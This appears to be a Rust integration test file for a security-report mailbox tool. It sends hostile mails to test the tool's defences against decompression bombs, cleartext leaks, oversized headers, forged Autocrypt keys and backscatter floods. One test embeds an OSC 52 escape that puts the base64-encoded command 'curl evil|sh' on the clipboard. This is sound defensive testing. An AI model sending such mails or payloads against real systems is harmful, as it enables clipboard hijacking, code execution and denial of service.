//! Attacks on the security mailbox, each built with gpg and sent through
//! Exim as the attacker would. Every test here failed against
//! the code before its fix; the README's threat model names each one.
//! Those the pipeline decides alone (forged From, spliced, retargeted and
//! old signatures, a Turkish reply) run in process: `tests/intake`.

use std::time::Duration;

use crate::common::*;
use crate::gpg::*;

const RESEARCHER: &str = "researcher@example.test";
const SECURITY: &str = "security@example.test";
const TEAM: &str = "team@example.test";
const WAIT: Duration = Duration::from_secs(30);

/// One small mail whose many `application/pgp-encrypted` control parts all
/// point at the same bzip2 block (4 MB of plaintext each time, 1.2 GB in all): the block
/// is decrypted once, the message is recorded and answered, and the report
/// after it is not held up.
#[test]
fn control_parts_that_repeat_one_ciphertext_do_not_pause_intake() {
    let k = keys();
    let s = Setup::with(Options {
        extra: "\n[openpgp]\nkeys = [\"team.sec.asc\"]\nmax_decrypted_size = \"4MiB\"\n".to_owned(),
        ..Options::default()
    });
    write_key(s.dir.path(), "team.sec.asc", &k.team_cv_secret);
    let g = reporter_gpg();
    let ct = g.ok(
        &[
            "--armor",
            "--encrypt",
            "-r",
            &k.team_cv_fpr,
            "--compress-algo",
            "bzip2",
            "-z",
            "9",
        ],
        &[
            &b"Content-Type: text/plain; charset=us-ascii\r\n\r\n"[..],
            &vec![b'A'; 4_150_000],
        ]
        .concat(),
    );
    assert!(ct.len() < 10_000, "a bomb: {} bytes", ct.len());
    let mut mail = format!(
        "From: {RESEARCHER}\r\nTo: {SECURITY}\r\nSubject: bomb\r\nMessage-ID: <bomb@example.test>\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"=_bomb_7f3a\"\r\n\r\n"
    );
    for _ in 0..300 {
        mail.push_str("--=_bomb_7f3a\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n");
    }
    mail.push_str(&format!(
        "--=_bomb_7f3a\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\
         Content-Disposition: attachment; filename=\"encrypted.asc\"\r\n\r\n{}\r\n--=_bomb_7f3a--\r\n",
        String::from_utf8_lossy(&ct).replace('\n', "\r\n")
    ));
    assert!(mail.len() < 40_000);
    s.stack.deliver(RESEARCHER, SECURITY, &mail);
    s.stack.deliver(
        RESEARCHER,
        SECURITY,
        &report("after-bomb@example.test", "After the bomb", "a real report"),
    );
    s.stack.wait_inbox(SECURITY, 2, WAIT);
    let out = s.embargo(&["run", "--once"]);
    assert!(
        out.status.success(),
        "intake must not pause: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Decrypted once: 4 MB stored, not 300 copies (1.2 GB in the database).
    let stored: u64 = ["embargo.sqlite3", "embargo.sqlite3-wal"]
        .iter()
        .filter_map(|f| std::fs::metadata(s.dir.path().join(f)).ok())
        .map(|m| m.len())
        .sum();
    assert!(stored < 64 << 20, "{stored} bytes stored for one 40 KB mail");
    let reports = s.reports();
    assert_eq!(reports.len(), 2, "both recorded: {reports:?}");
    let acks = s.stack.wait_inbox(RESEARCHER, 2, WAIT);
    assert!(
        acks.iter()
            .any(|m| header(m, "Subject").unwrap().contains("After the bomb"))
    );
}
/// Anyone can resend a captured ciphertext with their own Return-Path: an
/// encrypted report from a sender whose key embargo does not know must not
/// come back (ack, alert, digest, relay explanation, log) in cleartext.
#[test]
fn nothing_that_arrived_encrypted_leaves_in_cleartext() {
    let k = keys();
    // Team keys for decryption, alerts and digest to team@ without member
    // keys (so they go out unencrypted), team@ a member without a key.
    let s = Setup::with(Options {
        extra: format!(
            "\n[openpgp]\nkeys = [\"team.sec.asc\"]\n\n[team]\nmembers = [\"{TEAM}\"]\nnotify = [\"{TEAM}\"]\n"
        ),
        ..Options::default()
    });
    write_key(s.dir.path(), "team.sec.asc", &k.team_cv_secret);
    let g = reporter_gpg();
    let inner = "Content-Type: multipart/mixed; boundary=\"IN\"; protected-headers=\"v1\"\r\n\
        Subject: CANARY-SUBJECT-7f3a\r\n\r\n--IN\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
        The admin API leaks tokens. CANARY-BODY-7f3a\r\n\
        --IN\r\nContent-Type: text/x-python; name=\"CANARY-FILE-7f3a.py\"\r\n\
        Content-Disposition: attachment; filename=\"CANARY-FILE-7f3a.py\"\r\n\r\nprint(1)\r\n--IN--\r\n";
    let ct = g.ok(&["--armor", "--encrypt", "-r", &k.team_cv_fpr], inner.as_bytes());
    // Sent by someone whose key embargo does not know (no Autocrypt, no key
    // attached): the "resent capture" case.
    s.stack.deliver(
        "other@example.test",
        SECURITY,
        &pgp_mime(
            &format!(
                "From: other@example.test\r\nTo: {SECURITY}\r\nSubject: ...\r\nMessage-ID: <canary@example.test>\r\n"
            ),
            &ct,
        ),
    );
    // Taken in first, so that the member's reply below finds its report
    // (mail delivered together is numbered in any order).
    s.stack.wait_inbox(SECURITY, 1, WAIT);
    let first = s.once();
    // A member without a key in [team] keys sends an encrypted mail with an
    // unknown command quoting a canary: the explanation cannot be encrypted.
    let member_inner = "Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"\r\n\
        Subject: Re: [SEC-2026-0001] CANARY-MEMBER-SUBJECT-7f3a\r\n\r\nescalate: CANARY-MEMBER-LINE-7f3a\r\n";
    let ct = g.ok(&["--armor", "--encrypt", "-r", &k.team_cv_fpr], member_inner.as_bytes());
    s.stack.deliver(
        TEAM,
        SECURITY,
        &pgp_mime(
            &format!("From: {TEAM}\r\nTo: {SECURITY}\r\nSubject: Re: [SEC-2026-0001] ...\r\nMessage-ID: <member-canary@example.test>\r\n"),
            &ct,
        ),
    );
    s.stack.wait_inbox(SECURITY, 2, WAIT);
    let run = s.once();
    let log = String::from_utf8_lossy(&first.stderr).into_owned() + String::from_utf8_lossy(&run.stderr).as_ref();
    let digest = s.embargo(&["digest", "--send"]);
    assert!(digest.status.success(), "{}", String::from_utf8_lossy(&digest.stderr));
    let reports = s.reports();
    let id = reports[0]["id"].as_str().unwrap().to_owned();
    assert_eq!(
        reports[0]["subject"], "CANARY-SUBJECT-7f3a",
        "the team's store keeps it"
    );
    // A team notice to that sender (their key is unknown): cleartext too.
    let fixed = s.embargo(&["reports", "fixed", &id, "--notify"]);
    assert!(fixed.status.success(), "{}", String::from_utf8_lossy(&fixed.stderr));
    s.stack.wait_inbox("other@example.test", 2, WAIT);
    // Alert + explanation + digest to team@.
    s.stack.wait_inbox(TEAM, 3, WAIT);
    s.stack.wait_delivered(WAIT);
    std::thread::sleep(Duration::from_secs(1));
    let mut sent = s.stack.inbox("other@example.test");
    sent.extend(s.stack.inbox(TEAM));
    let ack = sent
        .iter()
        .find(|m| m.contains("Auto-Submitted: auto-replied"))
        .unwrap();
    assert_eq!(header(ack, "Subject").unwrap(), format!("[{id}]"), "only the tag");
    for m in &sent {
        for canary in ["CANARY-SUBJECT", "CANARY-BODY", "CANARY-FILE", "CANARY-MEMBER"] {
            assert!(!m.contains(canary), "{canary} left in cleartext:\n{m}");
        }
    }
    let show_log = String::from_utf8_lossy(&digest.stderr);
    for canary in ["CANARY-SUBJECT", "CANARY-BODY", "CANARY-FILE", "CANARY-MEMBER"] {
        assert!(
            !log.contains(canary) && !show_log.contains(canary),
            "{canary} in the log:\n{log}"
        );
    }
}

/// One hostile mail must not make embargo send large mail to a forgeable
/// Return-Path (or to the team): a 400 KB one-line Subject, a References
/// header of 12,000 ids and a 50 KB display name are quoted cut short; and
/// escape sequences in it (OSC 52 sets the clipboard) never reach the
/// team's terminal.
#[test]
fn a_huge_subject_or_references_header_is_not_echoed() {
    let s = Setup::with(Options {
        extra: format!("\n[team]\nmembers = [\"{TEAM}\"]\nnotify = [\"{TEAM}\"]\n"),
        ..Options::default()
    });
    let subject = format!("XSS {}", "A".repeat(400_000));
    let refs: Vec<String> = (0..12_000).map(|i| format!("<ref{i}@victim.example>")).collect();
    let name = "N".repeat(50_000);
    let mail = format!(
        "From: \"{name}\" <{RESEARCHER}>\r\nTo: {SECURITY}\r\nSubject: {subject}\r\nMessage-ID: <huge@example.test>\r\n\
         References: {}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n\
         The bug.\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{9b}31m\r\n",
        refs.join("\r\n ")
    );
    s.stack.deliver(RESEARCHER, SECURITY, &mail);
    s.stack.wait_inbox(SECURITY, 1, WAIT);
    s.once();
    assert!(s.embargo(&["digest", "--send"]).status.success());
    let ack = s.stack.wait_inbox(RESEARCHER, 1, WAIT).remove(0);
    let team = s.stack.wait_inbox(TEAM, 2, WAIT);
    for m in std::iter::once(&ack).chain(&team) {
        assert!(
            m.len() < 32 * 1024,
            "{} bytes sent for one inbound mail:\n{}",
            m.len(),
            &m[..2000]
        );
    }
    assert!(
        header(&ack, "References").unwrap().contains("<ref0@victim.example>"),
        "the thread root stays"
    );
    let list = s.embargo(&["reports", "list"]);
    assert!(list.stdout.len() < 4096);
    let show = s.embargo(&["reports", "show", "SEC-2026-0001"]);
    assert!(show.stdout.len() < 32 * 1024, "{} bytes", show.stdout.len());
    // The team's terminal: no escape sequence from the mail reaches it.
    let text = String::from_utf8(show.stdout).unwrap();
    assert!(text.contains("The bug."), "{text}");
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{9b}'),
        "{text:?}"
    );
    assert!(text.contains("\\x1b]52;c;"), "shown escaped");
    let r = s.reports();
    assert_eq!(r[0]["subject"].as_str().unwrap().len(), subject.len(), "stored whole");
}

/// A forged `From: reporter` carrying another key (Autocrypt) must not
/// take over the reporter's encrypted conversation: the first key is
/// pinned, a different one waits as a candidate until the team accepts it
/// (or the pinned key vouches for it); automatic mail teaches no keys; a
/// certificate that cannot encrypt is never used for encryption.
#[test]
fn a_forged_key_does_not_take_over_the_reporters_conversation() {
    let k = keys();
    let s = Setup::with(Options {
        extra: "\n[openpgp]\nkeys = [\"team.sec.asc\"]\n".to_owned(),
        ..Options::default()
    });
    write_key(s.dir.path(), "team.sec.asc", &k.team_cv_secret);
    let real = reporter_gpg();
    // The first report, with the reporter's real key.
    let first = format!(
        "From: {RESEARCHER}\r\nTo: {SECURITY}\r\nSubject: Pinned\r\nMessage-ID: <pin1@example.test>\r\n{}\r\nThe bug.\r\n",
        autocrypt(&real, &k.reporter_fpr, RESEARCHER)
    );
    s.stack.deliver(RESEARCHER, SECURITY, &first);
    s.stack.wait_inbox(SECURITY, 1, WAIT);
    s.once();
    s.stack.wait_inbox(RESEARCHER, 1, WAIT);
    let id = s.reports()[0]["id"].as_str().unwrap().to_owned();
    // The forger: a key with the reporter's address, sent unsigned in a
    // forged follow-up, and again in forged automatic mail.
    let forger = Gpg::new();
    let forger_fpr = forger.generate(RESEARCHER, "cv25519");
    let forged = format!(
        "From: {RESEARCHER}\r\nTo: {SECURITY}\r\nSubject: Re: [{id}] Pinned\r\nMessage-ID: <forged-key@evil.example>\r\n{}\r\nNew key, please use it.\r\n",
        autocrypt(&forger, &forger_fpr, RESEARCHER)
    );
    s.stack.deliver("attacker@evil.example", SECURITY, &forged);
    let auto_forger = Gpg::new();
    let auto_fpr = auto_forger.generate(RESEARCHER, "cv25519");
    let automatic = format!(
        "From: {RESEARCHER}\r\nTo: {SECURITY}\r\nSubject: Out of office\r\nAuto-Submitted: auto-replied\r\nMessage-ID: <auto-key@evil.example>\r\n{}\r\nAway.\r\n",
        autocrypt(&auto_forger, &auto_fpr, RESEARCHER)
    );
    s.stack.deliver("attacker@evil.example", SECURITY, &automatic);
    s.stack.wait_for(SECURITY, "<forged-key@evil.example>", WAIT);
    s.stack.wait_for(SECURITY, "<auto-key@evil.example>", WAIT);
    s.once();
    // The team's next reply is for the real reporter's key only.
    let reply = s.dir.path().join("reply.txt");
    std::fs::write(&reply, "We confirm it. PINNED-REPLY\n").unwrap();
    let out = s.embargo(&["reports", "reply", &id, "--file", reply.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let mails = s.stack.wait_inbox(RESEARCHER, 2, WAIT);
    let m = mails.iter().find(|m| !m.contains("Auto-Submitted")).unwrap();
    assert!(
        forger
            .run(&["--decrypt"], armored_block(m).as_bytes())
            .stdout
            .is_empty(),
        "the forger cannot read the team's reply"
    );
    let plain = real.ok(&["--decrypt"], armored_block(m).as_bytes());
    assert!(String::from_utf8_lossy(&plain).contains("PINNED-REPLY"));
    let keys: serde_json::Value = serde_json::from_slice(&s.embargo(&["keys", "list", "--json"]).stdout).unwrap();
    let status = |fpr: &str| {
        keys["reporters"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["fingerprint"].as_str().is_some_and(|f| f.eq_ignore_ascii_case(fpr)))
            .map(|r| r["status"].as_str().unwrap_or_default().to_owned())
    };
    assert_eq!(status(&k.reporter_fpr).as_deref(), Some("pinned"));
    assert_eq!(status(&forger_fpr).as_deref(), Some("candidate"));
    assert_eq!(status(&auto_fpr), None, "no key is learned from automatic mail");
    // The team accepts the candidate (say, after a call with the
    // reporter): from now on it is used.
    let listed = String::from_utf8(s.embargo(&["keys", "list"]).stdout).unwrap();
    assert!(listed.contains("first sight"), "{listed}");
    let out = s.embargo(&["keys", "accept", RESEARCHER, &forger_fpr]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = s.embargo(&["reports", "reply", &id, "--file", reply.to_str().unwrap()]);
    assert!(out.status.success());
    let mails = s.stack.wait_inbox(RESEARCHER, 3, WAIT);
    assert!(
        mails.iter().filter(|m| !m.contains("Auto-Submitted")).any(|m| !forger
            .run(&["--decrypt"], armored_block(m).as_bytes())
            .stdout
            .is_empty()),
        "the accepted key is used"
    );

    // A certificate that can only sign: the acknowledgement goes out as for
    // an unknown key (readable), never encrypted to the team key alone.
    let signer_only = Gpg::new();
    let params = "%no-protection\nKey-Type: EDDSA\nKey-Curve: ed25519\nKey-Usage: sign\nName-Real: Other\nName-Email: other@example.test\nExpire-Date: 0\n%commit\n";
    signer_only.ok(&["--gen-key"], params.as_bytes());
    let so_fpr = signer_only.fingerprint("other@example.test");
    let mail = format!(
        "From: other@example.test\r\nTo: {SECURITY}\r\nSubject: Sign-only\r\nMessage-ID: <signonly@example.test>\r\n{}\r\nAnother bug.\r\n",
        autocrypt(&signer_only, &so_fpr, "other@example.test")
    );
    s.stack.deliver("other@example.test", SECURITY, &mail);
    s.stack.wait_for(SECURITY, "<signonly@example.test>", WAIT);
    s.once();
    let ack = s.stack.wait_inbox("other@example.test", 1, WAIT).remove(0);
    assert!(
        !header(&ack, "Content-Type").unwrap().starts_with("multipart/encrypted"),
        "not encrypted to a key the reporter does not hold:\n{ack}"
    );
}

/// Backscatter: a forged flood aimed at one victim with `+tags` counts as
/// one address, and all automatic mail together is capped per hour (the
/// rest waits in the outbox, it is not dropped, and `status` says so).
#[test]
fn forged_floods_cannot_turn_embargo_into_a_backscatter_source() {
    let s = Setup::with(Options {
        max_per_sender: 5,
        extra: "max_automatic_per_hour = 3\n".to_owned(),
        stack_env: &[(
            "MAILSTACK_USERS",
            "security@example.test:security-pw researcher@example.test:researcher-pw team@example.test:team-pw \
             r1@example.test:x r2@example.test:x r3@example.test:x r4@example.test:x r5@example.test:x",
        )],
        ..Options::default()
    });
    // Seven "reports" with the victim's address and a different +tag each.
    for i in 1..=7 {
        let from = format!("victim+{i}@example.org");
        s.stack.deliver(
            &from,
            SECURITY,
            &format!(
                "From: {from}\r\nTo: {SECURITY}\r\nSubject: Bug {i}\r\nMessage-ID: <tag{i}@evil.example>\r\n\r\nx\r\n"
            ),
        );
    }
    s.stack.wait_inbox(SECURITY, 7, WAIT);
    s.once();
    let mut held = 0;
    for r in s.reports() {
        let show = String::from_utf8(s.embargo(&["reports", "show", r["id"].as_str().unwrap()]).stdout).unwrap();
        if show.contains("held by the per-sender limit") {
            held += 1;
        }
    }
    assert_eq!(
        held, 2,
        "user+tag@domain counts as user@domain: 5 acks at most, the rest combined later"
    );

    // Five distinct real senders in the same hour: none leaves (3 of the 5
    // tagged acks above went already: the hour's cap of 3 is full); they
    // wait in the outbox.
    for i in 1..=5 {
        let from = format!("r{i}@example.test");
        s.stack.deliver(
            &from,
            SECURITY,
            &report(&format!("cap{i}@example.test"), &format!("Capped {i}"), "x").replace(RESEARCHER, &from),
        );
    }
    s.stack.wait_inbox(SECURITY, 12, WAIT);
    let run = s.once();
    let log = String::from_utf8_lossy(&run.stderr);
    assert!(
        log.contains("reply.max_automatic_per_hour (3) reached") && log.contains("wait"),
        "the cap is said at warn, with the number waiting: {log}"
    );
    std::thread::sleep(Duration::from_secs(2));
    let got: usize = (1..=5)
        .map(|i| s.stack.inbox(&format!("r{i}@example.test")).len())
        .sum();
    assert_eq!(got, 0, "the hour's cap of 3 automatic mails was used by the flood");
    let status: serde_json::Value = serde_json::from_slice(&s.embargo(&["status", "--json"]).stdout).unwrap();
    assert_eq!(
        status["outbox_held"], 7,
        "2 tagged and 5 real acknowledgements wait for the hour: {status}"
    );
    assert_eq!(status["acks_held"], 2, "{status}");
    assert!(status["problems"].to_string().contains("hourly cap"), "{status}");
    let digest = String::from_utf8(s.embargo(&["digest", "--dry-run"]).stdout).unwrap();
    assert!(digest.contains("held by the hourly cap"), "{digest}");
}
